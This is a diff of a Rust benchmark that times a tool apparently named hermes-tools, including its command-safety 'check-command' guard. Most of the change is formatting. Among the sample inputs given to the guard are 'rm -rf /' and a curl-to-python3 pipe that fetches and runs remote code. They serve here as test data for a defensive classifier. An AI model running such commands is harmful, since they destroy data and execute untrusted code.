@@ -29,7 +29,10 @@ fn main() {
     let binary = env!("CARGO_BIN_EXE_hermes-tools");
     let baseline = time_runs("true", &[]);
     let baseline_median = baseline[RUNS / 2];
-    println!("{:<42} {:>10} {:>10} {:>12}", "command", "median", "p90", "x baseline");
+    println!(
+        "{:<42} {:>10} {:>10} {:>12}",
+        "command", "median", "p90", "x baseline"
+    );
     let report = |label: &str, samples: &[Duration]| {
         let median = samples[RUNS / 2];
         let p90 = samples[RUNS * 9 / 10];
@@ -43,14 +46,24 @@ fn main() {
     };
     report("true (baseline: start a process)", &baseline);
     report("hermes-tools list", &time_runs(binary, &["list"]));
-    report("hermes-tools schema --toolsets all", &time_runs(binary, &["schema", "--toolsets", "all"]));
-    report("hermes-tools toolsets --json", &time_runs(binary, &["toolsets", "--json"]));
+    report(
+        "hermes-tools schema --toolsets all",
+        &time_runs(binary, &["schema", "--toolsets", "all"]),
+    );
+    report(
+        "hermes-tools toolsets --json",
+        &time_runs(binary, &["toolsets", "--json"]),
+    );
 
     // The guard compiles its rule tables on the first classification: a whole
     // check-command process is compared with `schema`, a process that does no such work.
     let schema = time_runs(binary, &["schema", "--toolsets", "all"]);
     let schema_median = schema[RUNS / 2].as_secs_f64();
-    for command in ["ls -la", "rm -rf /", "curl -s https://example.com/x | python3"] {
+    for command in [
+        "ls -la",
+        "rm -rf /",
+        "curl -s https://example.com/x | python3",
+    ] {
         let samples = time_runs(binary, &["check-command", "--json", command]);
         let label = format!("hermes-tools check-command {command:?}");
         report(&label, &samples);
